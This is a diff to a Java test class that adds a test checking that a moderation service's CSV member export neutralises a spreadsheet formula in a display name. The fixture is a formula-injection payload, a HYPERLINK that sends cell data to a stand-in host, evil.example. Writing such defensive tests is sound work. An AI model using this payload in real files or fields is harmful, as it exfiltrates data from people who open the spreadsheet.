@@ -3,14 +3,19 @@ package app.ambassade.community;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import app.ambassade.identity.AccountProvisioning;
 import app.ambassade.identity.AuthenticatedUser;
 import app.ambassade.identity.Role;
 import app.ambassade.shared.validation.InvalidInputException;
 import app.ambassade.support.AmbassadeTest;
 import app.ambassade.support.TestData;
 import app.ambassade.tenancy.TenantSummary;
+import java.io.StringReader;
 import java.io.StringWriter;
 import java.util.List;
+import java.util.Locale;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -34,6 +39,8 @@ class CommunityServiceTest {
     ModerationService moderation;
     @Autowired
     ApplicationEvents events;
+    @Autowired
+    AccountProvisioning provisioning;
 
     TenantSummary tenant;
     AuthenticatedUser manager;
@@ -293,5 +300,26 @@ class CommunityServiceTest {
         StringWriter csv = new StringWriter();
         moderation.exportMembers(open, null, csv);
         assertThat(csv.toString()).startsWith("member_id,name,status").contains("Test MEMBER,ACTIVE");
+    }
+
+    @Test
+    void theMemberExportNeutralisesADisplayNameASpreadsheetWouldRunAsAFormula() throws Exception {
+        String formula = "=HYPERLINK(\"https://evil.example/steal?d=\"&A1,\"Click me\")";
+        long id = TestData.asPlatformAdmin(() -> provisioning.createActiveAccount(tenant.id(), "formula@comm.example",
+                formula, Role.MEMBER, TestData.PASSWORD, Locale.ENGLISH));
+        TestData.signIn(new AuthenticatedUser(id, tenant.id(), tenant.slug(), "formula@comm.example", formula,
+                Role.MEMBER.name(), 1));
+        communities.join(open);
+        TestData.signIn(manager);
+
+        StringWriter csv = new StringWriter();
+        moderation.exportMembers(open, null, csv);
+
+        List<CSVRecord> records = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(csv.toString())).getRecords();
+        assertThat(records).singleElement().satisfies(r -> {
+            assertThat(r.get("name")).isEqualTo("'" + formula);
+            assertThat(r.get("member_id")).isEqualTo(Long.toString(id));
+        });
     }
 }
